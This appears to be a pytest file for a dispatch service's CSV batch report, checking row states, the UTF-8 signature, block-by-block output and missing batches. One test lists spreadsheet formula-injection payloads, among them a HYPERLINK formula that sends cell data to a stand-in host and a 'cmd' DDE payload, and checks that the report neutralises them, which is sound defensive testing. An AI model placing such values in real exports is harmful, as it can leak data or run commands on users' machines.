"""A batch as a table."""

import codecs
import csv
import io

import pytest

from dispatcher.core.batch import Command
from dispatcher.core.job import Recipient, RefusedRow, State
from dispatcher.core.names import UploadName
from dispatcher.service.errors import Missing
from dispatcher.service.report import COLUMNS, report
from dispatcher.store.batches import UploadChunk
from dispatcher.store.store import Store
from tests.service.samples import draft, end_jobs, number, refusals, running

pytestmark = pytest.mark.anyio


async def table(store: Store, batch: str) -> list[dict[str, str]]:
    text = b"".join([piece async for piece in await report(store, batch)]).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


async def test_every_uploaded_line_is_in_it_once_whatever_became_of_it(store: Store) -> None:
    batch = await draft(store, 2)
    twice = Recipient(line=3, number=number(0), reference="again")
    part = UploadChunk(
        upload=UploadName.of_key("u"), first_line=3, last_line=4, recipients=[twice], refused=refusals(4)
    )
    await store.batches.add_chunk(batch, part)
    await store.batches.command(batch, Command.START)
    await end_jobs(store, batch, {1: (State.FAILED, "busy")}, why="It was busy.")
    lines = await table(store, batch)
    assert list(lines[0]) == list(COLUMNS)
    assert [(line["line"], line["state"], line["category"], line["reason"]) for line in lines] == [
        ("1", "leased", "", ""),
        ("2", "failed", "busy", "It was busy."),
        ("3", "duplicate", "", "the number is already in the batch"),
        ("4", "refused", "impossible", "It is too short."),
    ]


async def test_rows_that_a_cancelled_batch_never_began_are_cancelled(store: Store) -> None:
    batch = await running(store, 3)
    await store.batches.command(batch, Command.CANCEL)
    assert [line["state"] for line in await table(store, batch)] == ["cancelled"] * 3


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('=HYPERLINK("http://example.invalid/?"&A1,"x")', '\'=HYPERLINK("http://example.invalid/?"&A1,"x")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+49 30 23125123", "+49 30 23125123"),
        ("+49 30+1", "'+49 30+1"),
        ("K-1", "K-1"),
    ],
)
async def test_a_formula_is_harmless_in_it(store: Store, text: str, shown: str) -> None:
    batch = await draft(store)
    row = Recipient(line=1, number=number(0), reference=text)
    bad = RefusedRow(line=2, number=text, reason="invalid", detail=text)
    part = UploadChunk(upload=UploadName.of_key("u"), first_line=1, last_line=2, recipients=[row], refused=[bad])
    await store.batches.add_chunk(batch, part)
    lines = await table(store, batch)
    assert (lines[0]["number"], lines[0]["reference"]) == (number(0), shown)
    assert (lines[1]["number"], lines[1]["reason"]) == (shown, shown)


async def test_it_begins_with_the_signature_of_utf_8(store: Store) -> None:
    pieces = [piece async for piece in await report(store, await draft(store, 1))]
    assert [piece.startswith(codecs.BOM_UTF8) for piece in pieces] == [True, False]


async def test_it_comes_block_by_block(store: Store) -> None:
    batch = await draft(store, 2_500)
    pieces = [piece async for piece in await report(store, batch)]
    assert [piece.count(b"\r\n") for piece in pieces] == [1, 1000, 1000, 500]


async def test_an_unknown_batch_is_missing_before_anything_is_read(store: Store) -> None:
    with pytest.raises(Missing):
        await report(store, "nothere")
